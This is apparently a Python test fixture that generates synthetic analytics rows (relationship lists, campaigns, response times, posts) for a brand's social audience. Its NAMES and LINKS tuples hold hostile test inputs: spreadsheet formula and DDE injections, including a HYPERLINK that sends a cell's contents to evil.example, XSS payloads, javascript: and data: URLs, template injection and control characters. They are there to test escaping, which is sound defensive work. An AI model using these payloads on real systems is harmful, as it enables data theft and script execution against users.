"""A brand whose audience tries everything: names that are formulas, tags, other scripts, endless or empty; rows as the marts would hold them."""

from __future__ import annotations

from datetime import date, datetime, timedelta
from typing import Any

from published_marts import AS_OF

Rows = dict[str, list[dict[str, Any]]]

NAMES = (
    "Ana Sørensen",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "<script>alert('x')</script>",
    "محمد العربي",
    "\u202egnihsihp\u202c",
    "+41 79 000 00 00",
    "@everyone",
    "{{ 7 * 7 }}{% raw %}",
    '"><img src=x onerror=alert(1)>',
    "  =1+1",
    "'already quoted",
    "-2+3+cmd|' /C calc'!A0",
    "Zalgo\u0301\u0302\u0303\u0304 \x00\x1b[31mred\x07",
    "李小龙 🐉",
    "a" * 300,
    "\t=tab",
    'Line\nbreak, "quotes"; semicolons',
    "&lt;b&gt; already escaped",
)
LINKS = (
    "https://social.example/@ana",
    "javascript:alert(1)",
    'https://social.example/"onmouseover="alert(1)',
    "data:text/html,<script>alert(1)</script>",
    "http://social.example/path?a=1&b=<2>",
    "https://user:secret@evil.example/",
    "//evil.example/x",
    "https://ok.example/ with blank",
)
_REASONS = (
    ("waiting_for_answer", "Has been waiting for an answer for 4 days.", "Answer the open question first, in the thread where it was asked."),
    (
        "slipping",
        "You last talked 41 days ago; before that it was every 12 days or so.",
        "Get in touch personally, and pick up what was last talked about.",
    ),
    (
        "warming",
        "Talked with you on 5 days of the last 30, against 2 of the 30 before.",
        "Keep it going: invite them to something, or ask for their view.",
    ),
    ("steady", "Talks with you regularly.", "Nothing is due. Keep answering."),
)


def make_rows(people: int = 50, *, names: tuple[str, ...] = NAMES, links: tuple[str, ...] = LINKS) -> Rows:
    """Rows of the marts that the extracts read, for `people` people; 0 for a brand to which nothing has happened."""
    end = datetime(AS_OF.year, AS_OF.month, AS_OF.day) + timedelta(days=1)
    rows: Rows = {
        "ops.parameters": [
            {"parameter_name": name, "value": float(value), "default_value": float(value), "is_overridden": False}
            for name, value in (
                ("list_size", 50),
                ("list_expires_days", 30),
                ("living_window_days", 90),
                ("flow_days", 7),
                ("least_p_real", 0.5),
                ("waiting_limit_days", 90),
                ("list_history_weeks", 13),
                ("percent_least_living", 20),
            )
        ],
        "ops.completeness": [],
    }
    if not people:
        rows["relationships.living_relationships_daily"] = [{"as_of_date": AS_OF, "living_reason": "no data were ever pulled"}]
        return rows
    persons, strengths, fifty, living, asks, lifecycle, changes, entrants = [], [], [], [], [], [], [], []
    for number in range(people):
        name, link = names[number % len(names)], links[number % len(links)]
        who = {
            "person_id": f"p{number:04d}",
            "display_name": name,
            "handle": f"user{number}" if number % 5 else name,
            "platform": ("mastodon", "bluesky", "wordpress")[number % 3],
            "profile_url": link,
        }
        strength = 82.0 - number * 1.55
        persons.append({**who, "p_real": 1.0, "p_real_basis": "prior", "is_deleted": False, "has_objected": False})
        strengths.append({"person_id": who["person_id"], "strength": strength, "p_real": 1.0})
        code, reason, action = _REASONS[number % 4]
        waits = code == "waiting_for_answer"
        fifty.append(
            {
                **who,
                "rank": number + 1,
                "strength": strength,
                "balance": (0.9, 0.3, None)[number % 3],
                "reason_code": code,
                "reason_text": reason,
                "suggested_action": action,
                "in_event_count": 9 + number,
                "out_event_count": 5,
                "in_event_count_90d": 7,
                "out_event_count_90d": number % 6,
                "exchange_day_count": 6,
                "exchange_day_count_90d": 4,
                "days_since_last_exchange": number % 40,
                "last_exchange_date": AS_OF - timedelta(days=number % 40),
                "first_event_date": date(2026, 3, 1),
                "weeks_on_list": number % 13 + 1,
                "is_provisional": number % 7 == 0,
                "is_living": number % 2 == 0,
                "is_waiting_for_answer": waits,
                "waiting_since_at": end - timedelta(days=4, hours=3) if waits else None,
                "waiting_ask_text": f"Is the workshop on Saturday still on? {name}" if waits else None,
                "waiting_ask_url": link if waits else None,
                "last_in_kind": ("reply", "comment", "message")[number % 3],
                "last_in_at": end - timedelta(days=number % 40, hours=7),
                "last_in_text": None if number % 3 == 2 else f"Thank you, that helped a lot! I tried it at home. {name}",
                "last_in_url": link,
                "last_out_kind": "reply" if number % 6 else None,
                "last_out_at": end - timedelta(days=number % 40, hours=9) if number % 6 else None,
                "last_out_text": "Glad to hear it. Come by on Thursday and bring the other one too." if number % 6 else None,
                "last_out_url": "https://social.example/us/1",
                "p_real": 1.0,
                "p_real_basis": "prior",
                "lawful_basis": "consent" if number == 0 else None,
                "lawful_purpose": "newsletter" if number == 0 else None,
                "expires_date": AS_OF + timedelta(days=30),
            }
        )
        flow = ("kept", "kept", "new", "kept", "lapsed", "kept", "reactivated", "kept")[number % 8]
        living.append(
            {
                **who,
                "flow": flow,
                "flow_reason": flow,
                "is_living": flow != "lapsed",
                "last_in_url": link,
                "last_out_url": "https://social.example/us/1",
                "exchange_day_count": 3,
                "living_since_date": date(2026, 8, 1),
                "last_exchange_at": end - timedelta(days=number),
            }
        )
        page = {key: who[key] for key in ("person_id", "display_name", "profile_url")}
        if code == "slipping":
            rule = "own rhythm" if number % 8 == 1 else "P(alive)"
            lifecycle.append(
                {
                    **page,
                    "is_at_risk": True,
                    "risk_rank": number,
                    "risk_rule": rule,
                    "median_gap_days": 11.5,
                    "p_alive": 0.31 if rule == "P(alive)" else None,
                    "p_real": 1.0,
                    "days_since_last_exchange": 40 + number,
                    "last_exchange_at": end - timedelta(days=40 + number),
                }
            )
        if flow in ("new", "lapsed"):
            joined = flow == "new"
            changes.append(
                {
                    **who,
                    "change": "joined" if joined else "left",
                    "reason_code": "talked" if joined else "silent",
                    "reason_text": "Came to you on 2 days this week." if joined else "Nothing was said between you this week, and strength fades.",
                    "rank": number + 1 if joined else None,
                    "previous_rank": None if joined else number + 3,
                    "strength": 20.0,
                    "last_in_url": link,
                    "previous_date": AS_OF - timedelta(days=7),
                }
            )
        if number % 10 == 3:
            entrants.append(
                {
                    **who,
                    "campaign_id": "contest",
                    "state": "about to lapse",
                    "silent_days": 14 + number % 17,
                    "days_left": 16 - number % 17,
                    "p_real": 1.0,
                }
            )
        if waits:
            asks.append(
                {
                    "ask_post_key": f"mastodon:{number}",
                    **{key: who[key] for key in ("person_id", "display_name", "handle", "platform", "profile_url")},
                    "ask_kind": "reply",
                    "ask_text": f"When do you open? {name}",
                    "ask_url": link,
                    "is_waiting": True,
                    "joined_ask_count": 1 + number % 3,
                    "asked_at": end - timedelta(days=4 + number, hours=3),
                    "waiting_seconds": (4 + number) * 86400 + 3 * 3600,
                    "p_real": 1.0,
                    "duration_business_seconds": (4 + number) * 5 * 3600 if number % 8 else None,
                    "business_reason": None if number % 8 else "no working hours configured",
                }
            )
    now = sum(row["is_living"] for row in living)
    before = sum(row["flow"] in ("kept", "lapsed") for row in living)
    daily = [
        {
            "as_of_date": AS_OF - timedelta(days=back),
            "living_count": now if back == 0 else before if back == 7 else max(0, now - back // 3),
            "single_responder_count": now // 2,
            "single_root_count": 2,
            "is_too_few": False,
        }
        for back in range(91)
    ]
    return {
        **rows,
        "relationships.people": [*persons, {"person_id": "bot", "display_name": "bot", "p_real": 0.0, "p_real_basis": "stated", "is_deleted": False}],
        "relationships.relationship_strength": strengths,
        "relationships.the_fifty": fifty,
        "relationships.living_people": living,
        "relationships.living_relationships_daily": daily,
        "relationships.lifecycle": lifecycle,
        "relationships.the_fifty_changes": changes,
        "relationships.fifty_versus_crowd": _make_verdict(),
        "relationships.concentration": [
            {
                "measure": "value",
                "total_unit": "EUR",
                "member_count": 400,
                "total": 9000.0,
                "majority_count": 12,
                "top_1_share": 0.11,
                "is_too_few": False,
            },
            {"measure": "exchange days", "member_count": 400, "majority_count": 1, "top_1_share": 0.6, "is_too_few": True},
            {"measure": "responses per post", "concentration_reason": "nobody answered", "is_too_few": True},
            {"measure": "network reciprocity", "edge_count": 90, "reciprocal_edge_count": 60, "reciprocity": 0.667, "is_too_few": False},
        ],
        "engagement.posts": _make_posts(end, names, links, people),
        "engagement.feedback": [
            {
                "post_key": f"mastodon:f{number}",
                "platform": "mastodon",
                "kind": "reply",
                "person_id": f"p{number:04d}",
                "text": f"The lid leaks. {names[number % len(names)]}",
                "url": links[number % len(links)],
                "heard_text": None if number else "leaking lids",
                "is_done": number == 0,
                "done_text": None if number else "New gasket since August.",
                "is_deleted": False,
                "said_date": AS_OF - timedelta(days=5),
                "said_at": end - timedelta(days=5),
                "heard_at": end - timedelta(days=4),
            }
            for number in range(min(people, 3))
        ],
        "engagement.feedback_summary": [
            {
                "period_kind": kind,
                "platform": platform,
                "period_start_date": AS_OF - timedelta(days=89),
                "conversed_person_count": count,
                "feedback_person_count": 3,
                "feedback_yield": 3 / count,
                "feedback_yield_low": 0.03,
                "feedback_yield_high": 0.2,
            }
            for kind, platform, count in (("last_28_days", "all", 10), ("last_90_days", "all", 40), ("last_90_days", "mastodon", 30))
        ],
        "engagement.campaigns": [
            {
                "campaign_id": "contest",
                "campaign_name": names[1 % len(names)],
                "campaign_state": "over, its 90 days are not",
                "peak_count": 412,
                "peak_ratio": 20.6,
                "half_life_days": 1.8,
                "entrant_count": 120,
                "staying_count": 6,
                "cost_row_count": 2,
                "unknown_cost_count": 0,
                "cost_amount": 900.0,
                "cost_per_staying": 150.0,
                "currency": "EUR",
                "lasting_reason": "its 90 days are not over",
                "outcome_reason": "its 90 days are not over",
                "campaign_start_date": date(2026, 8, 1),
                "campaign_end_date": date(2026, 8, 7),
                "starts_at": datetime(2026, 8, 1),
            },
            {
                "campaign_id": "spring",
                "campaign_name": "Spring",
                "campaign_state": "settled",
                "baseline_reason": "no weekday before it",
                "half_life_reason": "no weekday before it",
                "entrant_count": 0,
                "staying_count": 0,
                "cost_row_count": 0,
                "unknown_cost_count": 0,
                "currency": "EUR",
                "lasting_lift": 1.5,
                "lasting_low": -2.0,
                "lasting_high": 4.25,
                "outcome": "failed: no gain that is certain",
                "campaign_start_date": date(2026, 6, 1),
                "campaign_end_date": date(2026, 6, 2),
                "starts_at": datetime(2026, 6, 1),
            },
        ],
        "engagement.campaign_entrants": entrants,
        "engagement.response_times": asks,
        "engagement.response_summary": [
            {
                "period_kind": kind,
                "platform": "all",
                "ask_count": count,
                "answered_count": count // 2,
                "answered_rate": 0.5,
                "answered_rate_low": 0.31,
                "answered_rate_high": 0.69,
                "median_response_seconds": median,
                "median_response_reason": None if median else "not reached",
                "median_business_seconds": median / 4 if median else None,
                "median_business_reason": None if median else "not reached",
                "is_too_few": count < 10,
            }
            for kind, count, median in (("last_7_days", 6, None), ("last_28_days", 24, 21_600.0), ("last_90_days", 80, 26_000.0))
        ],
        "ops.completeness": [
            {
                "completeness_key": "a",
                "platform": "mastodon",
                "source_account_id": "acme",
                "stream": "favourited_by",
                "completeness_state": "partial",
                "reason": "rate limit met: 12 posts <b>unread</b>",
                "got_count": 88,
                "expected_count": 120,
                "is_believable": False,
                "load_status": "warned",
                "window_end_date": AS_OF,
                "window_end_at": end,
            },
            {
                "completeness_key": "b",
                "platform": "wordpress",
                "source_account_id": "acme",
                "stream": "likes",
                "completeness_state": "not_reachable",
                "reason": "the platform names nobody",
                "is_believable": False,
                "window_end_date": AS_OF,
                "window_end_at": end,
            },
        ],
    }


def _make_verdict() -> list[dict[str, Any]]:
    """The comparison as the mart would hold it: NO, and yes with a longer list."""
    common = {
        "outcome": "value", "outcome_unit": "EUR", "list_count": 50, "crowd_count": 900, "list_sum": 1500.0, "is_primary": False,
        "chosen_date": AS_OF - timedelta(days=90), "unvalued_count": 0,
    }  # fmt: skip
    no = {"verdict": "refuted", "verdict_reason": "refuted: the interval of the difference lies below 0"}
    return [
        {
            **common, **no, "variant": "main", "list_size": 50, "answer_text": "NO: the like-only crowd was worth more in total.", "is_primary": True,
            "crowd_sum": 2700.0, "difference": -1200.0, "difference_low": -2100.0, "difference_high": -300.0, "list_per_head": 30.0,
            "crowd_per_head": 3.0, "per_head_ratio": 10.0, "per_head_ratio_low": 6.4, "per_head_ratio_high": 15.0, "measured_value": 900.0,
            "total_value": 6000.0, "share_of_total": 0.15, "list_link_rate": 0.6, "crowd_link_rate": 0.4, "list_cost_per_head": 12.5,
            "crowd_cost_per_head": 0.694, "unvalued_count": 2,
        },
        {
            **common, "variant": "list size", "list_size": 250, "verdict": "holds", "verdict_reason": "holds: above 0", "answer_text": "Yes",
            "crowd_sum": 2700.0, "difference": 800.0, "difference_low": 99.5, "difference_high": 1500.0, "is_verdict_flipped": True,
        },
        {
            **common, **no, "variant": "without the largest of the crowd", "list_size": 50, "crowd_sum": 2600.0, "difference": -1100.0,
            "difference_low": -2000.0, "difference_high": -200.0, "is_verdict_flipped": False,
        },
        {
            **common, **no, "variant": "followers", "list_size": 50, "crowd_count": 3000, "difference": -5000.0, "difference_low": -7000.0,
            "difference_high": -3000.0, "break_even_count": 216.4, "break_even_low": 150.2, "break_even_high": None,
        },
        {
            **common, "variant": "main", "outcome": "clicks", "outcome_unit": "clicks", "list_size": 50, "verdict": "not measurable",
            "verdict_reason": "not measurable: no connector tells who clicked", "list_sum": None,
        },
        {
            **common, "variant": "secondary", "outcome": "replies", "outcome_unit": "replies", "list_size": 50, "list_sum": 210.0, "crowd_sum": 3.0,
            "verdict_reason": "a secondary outcome has no verdict",
        },
        {
            **common, "variant": "secondary", "outcome": "referrals", "outcome_unit": "referrals", "list_size": 50, "list_sum": None,
            "verdict_reason": "not measurable: no referrals are recorded",
        },
    ]  # fmt: skip


def _make_posts(end: datetime, names: tuple[str, ...], links: tuple[str, ...], people: int) -> list[dict[str, Any]]:
    """Posts of the brand with their answers: one that made people talk, one that did not, and three that must not be compared."""
    posts = []
    for number, (platform, media, days, talkers, rewarded) in enumerate(
        (
            ("mastodon", "image", 12, 3, False),
            ("mastodon", "image", 20, 1, False),
            ("mastodon", "none", 13, 0, False),
            ("bluesky", "image", 14, 0, False),
            ("mastodon", "image", 15, 5, True),
            ("mastodon", "image", 5, 5, False),
        )
    ):
        common = {"platform": platform, "is_deleted": False, "is_incentivised": rewarded, "is_time_observed": False, "is_settled": days >= 7}
        posts.append(
            {
                **common,
                "post_key": f"b{number}",
                "root_post_key": f"b{number}",
                "kind": "post",
                "author_side": "brand",
                "media_type": media,
                "text": f"Post {number}: {names[number % len(names)]}",
                "url": links[number % len(links)],
                "published_at": end - timedelta(days=days),
            }
        )
        posts += [
            {
                **common,
                "post_key": f"b{number}a{answer}",
                "root_post_key": f"b{number}",
                "kind": "reply",
                "author_side": "audience",
                "author_person_id": f"p{answer % people:04d}",
                "url": links[answer % len(links)],
                "published_at": end - timedelta(days=days - 1),
            }
            for answer in range(min(talkers, people))
        ]
        # A bot is no person who talks.
        posts.append(
            {
                **common,
                "post_key": f"b{number}bot",
                "root_post_key": f"b{number}",
                "kind": "reply",
                "author_side": "audience",
                "author_person_id": "bot",
                "published_at": end - timedelta(days=days - 1),
            }
        )
    return posts  # fmt: skip
